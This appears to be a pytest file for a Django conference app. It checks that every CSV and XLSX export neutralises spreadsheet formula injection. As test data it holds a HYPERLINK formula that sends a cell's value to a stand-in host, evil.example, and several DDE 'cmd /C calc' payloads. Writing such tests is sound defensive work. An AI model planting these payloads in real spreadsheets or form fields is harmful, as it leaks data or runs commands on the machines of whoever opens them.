"""Every CSV and XLSX export neutralises text a spreadsheet would run as a formula: the hostile
titles and names people can type come out with a leading apostrophe, and no XLSX cell is a
formula. One test per export kind, through its view."""

import csv
import io

import pytest
from django.urls import reverse

from conferences.domain.registration import register
from conferences.domain.schedule import publish_programme
from tests.factories import (
    CommitmentFactory,
    ConferencePartnerFactory,
    NetworkFactory,
    OrganisationFactory,
    PriorityFactory,
    open_registration,
    parallel_slot,
)
from tests.property.conftest import checked, new_client

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Klikk")'
OTHERS = ["+47 cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(response) -> list[str]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for cell in row]


def xlsx_cells(response) -> list:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []  # no formulas
    return [cell.value for cell in cells if isinstance(cell.value, str)]


def assert_neutralised(cells: list[str], *hostile: str) -> None:
    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []
    for text in hostile:
        assert [cell for cell in cells if cell.startswith("'" + text)] != [], text


def download(client, name: str, *args, query=None):
    response = checked(client.get(reverse(name, args=args), query or {}))
    assert response.status_code == 200
    return response


@pytest.fixture
def hostile_conference(conference, adviser):
    """A published programme with a hostile session title, and a registration for it whose
    free texts are hostile too."""
    open_registration(conference)
    _slot, (session, _other) = parallel_slot(conference, titles=[HOSTILE, "Vegar og tog"])
    publish_programme(conference, by=adviser, confirm_conflicts=True)
    registration = register(
        conference,
        values={
            "first_name": "Kari",
            "last_name": "Nordmann",
            "email": "kari@example.no",
            "language": "nb",
            "organisation_name": OTHERS[0],
            "sector": "annet",
            "job_title": OTHERS[1],
            "diets": ["vegan"],
            "diet_other": HOSTILE,
            "access_other": OTHERS[2],
        },
        sessions=[session],
    )
    return {"conference": conference, "session": session, "registration": registration}


def test_programme_csv_neutralises_a_hostile_session_title(hostile_conference, adviser):
    response = download(new_client(adviser), "schedule_csv", hostile_conference["conference"].slug)
    assert_neutralised(csv_cells(response), HOSTILE)


@pytest.mark.parametrize("name", ["registrations_csv", "registrations_xlsx"])
def test_registration_exports_neutralise_hostile_texts(hostile_conference, adviser, name):
    slug = hostile_conference["conference"].slug
    response = download(new_client(adviser), name, slug, query={"names": "1"})
    cells = csv_cells(response) if name.endswith("csv") else xlsx_cells(response)
    # the session title, in the list of sessions, and every free text of the registration
    assert_neutralised(cells, HOSTILE, *OTHERS)


@pytest.mark.parametrize("name", ["registrations_catering_csv", "registrations_catering_xlsx"])
def test_catering_exports_neutralise_hostile_needs(hostile_conference, adviser, name):
    slug = hostile_conference["conference"].slug
    response = download(new_client(adviser), name, slug, query={"names": "1"})
    cells = csv_cells(response) if name.endswith("csv") else xlsx_cells(response)
    assert_neutralised(cells, HOSTILE, OTHERS[0])  # the need, and the person's organisation


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("table", "hostile"),
    [("partners", HOSTILE), ("commitments_by_network", OTHERS[2])],
)
def test_dashboard_exports_neutralise_hostile_names(conference, adviser, table, hostile, fmt):
    organisation = OrganisationFactory(name=HOSTILE, slug="hostile")
    ConferencePartnerFactory(conference=conference, organisation=organisation)
    network = NetworkFactory(name=OTHERS[2])
    CommitmentFactory(
        priority=PriorityFactory(conference=conference, title_nb=OTHERS[0]),
        responsible_network=network,
    )
    response = download(new_client(adviser), "dashboard_export", conference.slug, f"{table}", fmt)
    cells = csv_cells(response) if fmt == "csv" else xlsx_cells(response)
    assert_neutralised(cells, hostile)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_editions_export_neutralises_a_hostile_conference_title(conference, adviser, fmt):
    conference.title = HOSTILE
    conference.save(update_fields=["title"])
    PriorityFactory(conference=conference)
    response = checked(new_client(adviser).get(reverse("editions_export", args=[fmt])))
    assert response.status_code == 200
    cells = csv_cells(response) if fmt == "csv" else xlsx_cells(response)
    assert_neutralised(cells, HOSTILE)
